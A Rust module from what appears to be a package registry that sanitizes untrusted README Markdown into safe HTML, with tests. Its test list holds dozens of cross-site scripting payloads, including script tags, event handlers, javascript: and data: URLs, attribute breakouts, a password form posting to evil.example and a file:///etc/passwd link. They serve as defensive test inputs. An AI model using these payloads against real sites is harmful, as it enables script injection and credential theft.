//! READMEs as HTML that is safe to show, whatever strangers wrote.
//!
//! Three fences, each enough alone: the tree of the document is cleaned before it is written (raw
//! HTML goes, links and pictures go unless they are on a short list), the writer escapes and refuses
//! dangerous URLs, and the page's policy forbids scripts and everything from elsewhere.

use comrak::nodes::{Node, NodeLink, NodeValue};
use comrak::{Arena, Options, parse_document};
use packhouse_core::escape;
use packhouse_core::tree::TreePath;

/// The largest README that is rendered, in bytes; a larger one is cut, and says so.
const README_BYTES: usize = 256 << 10;

/// How deep quotes and lists may nest; deeper READMEs are shown as plain text.
const DEPTH: usize = 100;

/// Where a README's relative links lead: its folder in the package, and a file's address.
pub(super) struct Place<'a> {
    /// The folder of the README, without a final `/`; empty for the root.
    pub(super) folder: &'a str,
    /// The address of a file of the same release.
    pub(super) file_url: &'a dyn Fn(&str) -> String,
}

/// `text` as HTML. Takes time and memory about linear in the length of the text.
pub(super) fn html(text: &str, place: &Place) -> String {
    let mut end = text.len().min(README_BYTES);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let (text, cut) = (&text[..end], end < text.len());
    let mut out = String::with_capacity(text.len() * 2);
    if text.lines().any(|line| markers(line) > DEPTH) || document(text, place, &mut out).is_err() {
        out = format!("<pre>{}</pre>", escape::html(text));
    }
    if cut {
        out.push_str(
            "<p><em>The rest of this README is cut: download the package to read it.</em></p>",
        );
    }
    out
}

fn options() -> Options<'static> {
    let mut options = Options::default();
    options.extension.autolink = true;
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    options.extension.alerts = true;
    options.extension.header_id_prefix = Some("readme-".to_owned());
    options.extension.header_id_prefix_in_href = true;
    options.render.ignore_empty_links = true;
    options
}

/// How many quotes and lists a line can open or continue: their markers at its start. The parser's
/// time grows with the square of it.
fn markers(line: &str) -> usize {
    let bytes = line.as_bytes();
    let start = bytes.iter().take_while(|b| b" \t>-*+.)0123456789".contains(b)).count();
    let marker = |at: &usize| match bytes[*at] {
        b'>' => true,
        b'-' | b'*' | b'+' | b'.' | b')' => matches!(bytes.get(at + 1), None | Some(b' ' | b'\t')),
        _ => false,
    };
    (0..start).filter(marker).count()
}

/// Parses, cleans and writes.
fn document(text: &str, place: &Place, out: &mut String) -> std::fmt::Result {
    let options = options();
    let arena = Arena::new();
    let root = parse_document(&arena, text, &options);
    clean(root, place);
    comrak::format_html(root, &options, out)
}

/// Takes everything out of the tree that is not harmless.
fn clean<'a>(root: Node<'a>, place: &Place) {
    let nodes: Vec<Node<'a>> = root.descendants().collect();
    for node in nodes {
        let mut unwrap = false;
        {
            let mut data = node.data_mut();
            match &mut data.value {
                NodeValue::HtmlBlock(_)
                | NodeValue::HtmlInline(_)
                | NodeValue::Raw(_)
                | NodeValue::FrontMatter(_) => {
                    drop(data);
                    node.detach();
                    continue;
                }
                NodeValue::Link(link) => match link_url(&link.url, place) {
                    Some(url) => link.url = url,
                    None => unwrap = true,
                },
                NodeValue::Image(image) => match picture_url(&image.url, place) {
                    Some(url) => image.url = url,
                    // A picture from elsewhere would tell its host who reads this page: a link
                    // leaves that to the reader.
                    None => match link_url(&image.url, place) {
                        Some(url) if !inside_link(node) => {
                            let title = std::mem::take(&mut image.title);
                            data.value = NodeValue::Link(Box::new(NodeLink { url, title }));
                        }
                        _ => unwrap = true,
                    },
                },
                _ => {}
            }
        }
        if unwrap {
            for child in node.children().collect::<Vec<_>>() {
                node.insert_before(child);
            }
            node.detach();
        }
    }
}

fn inside_link(node: Node<'_>) -> bool {
    node.ancestors().skip(1).any(|above| matches!(above.data().value, NodeValue::Link(_)))
}

/// Where a link may lead: an https page, a heading of the README, or a file of the package.
fn link_url(url: &str, place: &Place) -> Option<String> {
    if url.len() > 2_048 || url.chars().any(char::is_control) {
        return None;
    }
    if let Some(heading) = url.strip_prefix('#') {
        return Some(format!("#readme-{heading}"));
    }
    let https = url.get(..8).is_some_and(|start| start.eq_ignore_ascii_case("https://"));
    if https {
        return Some(url.to_owned());
    }
    own_file(url, place)
}

/// A picture may only come from the package itself.
fn picture_url(url: &str, place: &Place) -> Option<String> {
    let path = url.split(['?', '#']).next().unwrap_or(url);
    let (_, ending) = path.rsplit_once('.')?;
    let shown = ["png", "jpg", "jpeg", "gif", "webp"];
    if !shown.contains(&ending.to_ascii_lowercase().as_str()) {
        return None;
    }
    own_file(url, place)
}

/// The address of the package's own file that a relative URL names.
fn own_file(url: &str, place: &Place) -> Option<String> {
    let path = url.split(['?', '#']).next().unwrap_or(url);
    // A scheme, a host (`//`), a root or an encoded trick: not a plain relative path.
    if path.is_empty() || path.starts_with('/') || path.contains([':', '\\', '%']) {
        return None;
    }
    let mut parts: Vec<&str> = place.folder.split('/').filter(|part| !part.is_empty()).collect();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            part => parts.push(part),
        }
    }
    let path: TreePath = parts.join("/").parse().ok()?;
    Some((place.file_url)(path.as_str()))
}

#[cfg(test)]
mod tests {
    use std::ops::Add as _;

    use proptest::prelude::*;

    use super::*;

    fn rendered(text: &str) -> String {
        let file_url = |path: &str| format!("https://reg.example/f/{}", crate::urls::escaped(path));
        html(text, &Place { folder: "docs", file_url: &file_url })
    }

    /// What a browser would act on: (tag, attributes) of everything that is a tag in `html`.
    fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
        let mut tags = Vec::new();
        let mut rest = html;
        while let Some(at) = rest.find('<') {
            rest = &rest[at + 1..];
            let end = rest.find('>').unwrap_or(rest.len());
            let inner = &rest[..end];
            let name: String = inner
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || "/!".contains(*c))
                .collect();
            let mut attributes = Vec::new();
            let mut left = inner[name.len()..].trim_start();
            while let Some((key, value)) = left.split_once("=\"") {
                let (value, after) = value.split_once('"').unwrap_or((value, ""));
                for key in key.split_whitespace() {
                    attributes.push((key.to_lowercase(), value.to_owned()));
                }
                left = after;
            }
            tags.push((name.to_lowercase(), attributes));
            rest = &rest[end..];
        }
        tags
    }

    /// Panics if `html` holds anything but harmless tags with harmless attributes.
    fn assert_harmless(html: &str, source: &str) {
        const TAGS: &[&str] = &[
            "p",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "a",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "ul",
            "ol",
            "li",
            "blockquote",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "hr",
            "br",
            "img",
            "input",
            "sup",
            "section",
            "div",
        ];
        for (name, attributes) in tags(html) {
            let bare = name.trim_matches('/');
            assert!(TAGS.contains(&bare), "<{name}> from {source:?}: {html}");
            for (key, value) in attributes {
                let value = value.to_lowercase();
                match key.as_str() {
                    "href" => assert!(
                        value.starts_with("https://") || value.starts_with('#'),
                        "href {value} from {source:?}"
                    ),
                    "src" => assert!(
                        value.starts_with("https://reg.example/f/"),
                        "src {value} from {source:?}"
                    ),
                    "id" | "name" => assert!(
                        value.starts_with("readme-") || value.starts_with("fn"),
                        "{key} {value} from {source:?}"
                    ),
                    "class"
                    | "title"
                    | "alt"
                    | "align"
                    | "start"
                    | "type"
                    | "checked"
                    | "disabled"
                    | "data-heading-content"
                    | "aria-hidden"
                    | "aria-label"
                    | "data-footnotes"
                    | "data-footnote-ref"
                    | "data-footnote-backref"
                    | "data-footnote-backref-idx" => {}
                    other => panic!("attribute {other} from {source:?}: {html}"),
                }
            }
        }
    }

    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        "a <img src=x onerror=alert(1)> b",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example><input name=password></form>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<details ontoggle=alert(1) open>",
        "<!-- --!><script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](javascript%3Aalert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](/v1/admin/tokens)",
        "[x](\\\\evil.example\\x)",
        "[x](../../../../v1/admin)",
        "[x](..%2f..%2fadmin)",
        "[x](http://evil.example)",
        "[x](https://ok.example \"onmouseover=alert(1)\")",
        "[x](https://ok.example \"\\\"><script>alert(1)</script>\")",
        "[x](https://ok.example/\"onmouseover=\"alert(1))",
        "[x](<https://ok.example/ \"onclick=alert(1)>)",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<https://ok.example/?a=\"><script>alert(1)</script>>",
        "![x](javascript:alert(1))",
        "![x](https://tracker.example/pixel.png)",
        "![x](http://tracker.example/pixel.png)",
        "![x](data:image/png;base64,AAAA)",
        "![x](image.svg)",
        "![x](//tracker.example/x.png)",
        "![x](/blobs/x.png)",
        "![x\" onerror=\"alert(1)](a.png)",
        "![x](a.png \"x\\\" onerror=\\\"alert(1)\")",
        "![x](a.png\" onerror=\"alert(1))",
        "[![x](https://tracker.example/p.png)](javascript:alert(1))",
        "[![x](https://tracker.example/p.png)](https://ok.example)",
        "```\"><script>alert(1)</script>\nx\n```",
        "```js onload=alert(1)\nx\n```",
        "`<script>alert(1)</script>`",
        "# <script>alert(1)</script>",
        "# x\" onclick=\"alert(1)",
        "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
        "- [x] <script>alert(1)</script>\n- [ ] [y](javascript:alert(1))",
        "text[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
        "text[^\"><script>]\n\n[^\"><script>]: x",
        "> [!NOTE] <script>alert(1)</script>\n> x",
        "---\ntitle: <script>alert(1)</script>\n---\n",
        "www.evil.example/\"onclick=alert(1)",
        "https://ok.example/\"><script>alert(1)</script>",
        "javascript:alert(1)@ok.example",
        "a@b.example",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\u{0}<script>\u{0}alert(1)</script>",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<a\u{2028}href=javascript:alert(1)>x</a>",
    ];

    #[test]
    fn hostile_readmes_are_harmless() {
        for source in HOSTILE {
            assert_harmless(&rendered(source), source);
        }
        // Joined, so that one could open what another closes.
        let joined = HOSTILE.join("\n\n");
        assert_harmless(&rendered(&joined), "all");
        assert_harmless(&rendered(&HOSTILE.join(" ")), "all in a line");
    }

    #[test]
    fn ordinary_readmes_look_as_written() {
        insta::assert_snapshot!(rendered(
            "# Sensor\n\nA **fast** one, see [usage](usage.md#start), [site](https://a.example) and [below](#more).\n\n\
             ![board](../img/board.png \"The board\") ![badge](https://ci.example/b.svg)\n\n\
             ```ato\nimport X\n```\n\n<p align=center>centred</p>\n\n| a | b |\n|--|--|\n| 1 | 2 |\n"
        ), @r##"
        <h1 id="readme-sensor">Sensor<a href="#readme-sensor" aria-label="Link to heading 'Sensor'" data-heading-content="Sensor" class="anchor"></a></h1>
        <p>A <strong>fast</strong> one, see <a href="https://reg.example/f/docs%2Fusage.md">usage</a>, <a href="https://a.example">site</a> and <a href="#readme-more">below</a>.</p>
        <p><img src="https://reg.example/f/img%2Fboard.png" alt="board" title="The board" /> <a href="https://ci.example/b.svg">badge</a></p>
        <pre><code class="language-ato">import X
        </code></pre>
        <table>
        <thead>
        <tr>
        <th>a</th>
        <th>b</th>
        </tr>
        </thead>
        <tbody>
        <tr>
        <td>1</td>
        <td>2</td>
        </tr>
        </tbody>
        </table>
        "##);
    }

    #[test]
    fn huge_and_deep_readmes_are_bounded() {
        let start = std::time::Instant::now();
        for (text, what) in [
            (">".repeat(40_000), "quotes"),
            ("> - ".repeat(49) + "x", "quotes within the limit"),
            (">".repeat(99).add("\n").repeat(100), "many quotes within the limit"),
            ("[".repeat(40_000), "brackets"),
            ("![".repeat(20_000), "pictures"),
            ("*a ".repeat(15_000), "stars"),
            ("_a*".repeat(15_000), "mixed emphasis"),
            ("- ".repeat(20_000), "lists"),
            ("`".repeat(40_000), "ticks"),
            ("<a ".repeat(15_000), "tags"),
            ("&".repeat(40_000), "entities"),
            ("| a ".repeat(5_000) + "\n" + &"|-".repeat(5_000), "table"),
            ("[a]: b\n".repeat(3_000) + &"[a]".repeat(3_000), "references"),
        ] {
            let out = rendered(&text);
            assert_harmless(&out[..out.len().min(100_000)], what);
            assert!(out.len() < 2 << 20, "{what}: {} bytes", out.len());
            assert!(start.elapsed().as_secs() < 60, "{what} took too long");
        }
        assert!(rendered(&"x\n".repeat(400_000)).contains("The rest of this README is cut"));
    }

    proptest! {
        #[test]
        fn no_text_is_harmful(text in "(\\[|\\]|\\(|\\)|<|>|\"|'|&|:|javascript|https://|!|#|`|\\||\n| |a|=|onload|/|\\\\){0,60}") {
            assert_harmless(&rendered(&text), &text);
        }
    }
}
